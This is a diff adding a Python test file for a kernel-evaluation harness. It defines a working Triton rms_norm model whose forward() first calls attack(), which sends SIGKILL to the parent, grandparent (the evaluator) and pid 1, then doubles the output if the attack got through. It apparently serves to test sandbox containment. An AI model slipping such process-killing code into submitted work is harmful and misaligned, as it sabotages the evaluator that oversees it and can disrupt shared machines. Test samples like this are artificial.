@@ -1,0 +1,84 @@
+"""SIGKILLs its parent and grandparent (the evaluator, outside a sandbox) and pid 1 of its namespace, then
+checks whether any of them is gone.
+
+An otherwise honest Triton rms_norm: forward() first tries the attack once per worker; if it worked, the
+output is doubled, so an attack that gets through shows as a wrong result (a contained one leaves the verdict
+done, correct and native). Never run it unsandboxed on a shared machine.
+"""
+
+import os
+import signal
+import sys
+import time
+
+import torch
+import triton
+import triton.language as tl
+from torch import nn
+
+
+@triton.jit
+def rms_norm_kernel(x_ptr, w_ptr, out_ptr, n_cols, stride_x, stride_out, eps, BLOCK: tl.constexpr):
+    row = tl.program_id(0)
+    cols = tl.arange(0, BLOCK)
+    mask = cols < n_cols
+    x = tl.load(x_ptr + row * stride_x + cols, mask=mask, other=0.0).to(tl.float32)
+    inv = tl.rsqrt(tl.sum(x * x, axis=0) / n_cols + eps)
+    w = tl.load(w_ptr + cols, mask=mask, other=0.0).to(tl.float32)
+    tl.store(out_ptr + row * stride_out + cols, (x * inv * w).to(out_ptr.dtype.element_ty), mask=mask)
+
+
+def _parent_of(pid):
+    with open(f"/proc/{pid}/stat", "rb") as fh:
+        stat = fh.read()
+    return int(stat[stat.rindex(b")") + 2:].split()[1])
+
+
+def attack():
+    targets = {os.getppid(), 1}
+    try:
+        targets.add(_parent_of(os.getppid()))
+    except (OSError, ValueError):
+        pass
+    targets -= {0, os.getpid()}
+    for pid in targets:
+        try:
+            os.kill(pid, signal.SIGKILL)
+        except OSError:
+            pass
+    time.sleep(0.3)
+    gone = 0
+    for pid in targets:
+        try:
+            os.kill(pid, 0)
+        except ProcessLookupError:
+            gone += 1
+        except OSError:
+            pass
+    return gone > 0
+
+ESCAPED = None  # whether the attack got through, once per worker
+
+
+class Model(nn.Module):
+    def __init__(self, eps: float = 1e-6) -> None:
+        super().__init__()
+        self.eps = float(eps)
+
+    def forward(self, x: torch.Tensor, weight: torch.Tensor) -> torch.Tensor:
+        global ESCAPED
+        if ESCAPED is None:
+            try:
+                ESCAPED = bool(attack())
+            except Exception:  # noqa: BLE001 - an attack that raises did not get through
+                ESCAPED = False
+        x2 = x.reshape(-1, x.shape[-1])
+        if x2.stride(-1) != 1:
+            x2 = x2.contiguous()
+        out = torch.empty_like(x2)
+        n_cols = x2.shape[1]
+        block = triton.next_power_of_2(n_cols)
+        rms_norm_kernel[(x2.shape[0],)](x2, weight, out, n_cols, x2.stride(0), out.stride(0), self.eps,
+                                        BLOCK=block, num_warps=4)
+        out = out.view(x.shape)
+        return out * 2 if ESCAPED else out
